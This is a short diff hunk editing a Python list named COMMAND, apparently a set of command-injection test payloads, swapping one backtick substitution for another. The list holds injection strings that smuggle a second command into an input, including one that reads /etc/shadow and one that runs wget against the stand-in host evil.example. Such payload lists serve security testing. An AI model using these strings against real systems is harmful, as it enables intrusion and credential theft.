@@ -54,7 +54,7 @@ COMMAND = [
     "| id",
     "127.0.0.1; whoami",
     "127.0.0.1 && cat /etc/shadow",
-    "`id`",
+    "`whoami`",
     "$(whoami)",
     "x|ls -la",
     ";wget http://evil.example/x.sh",
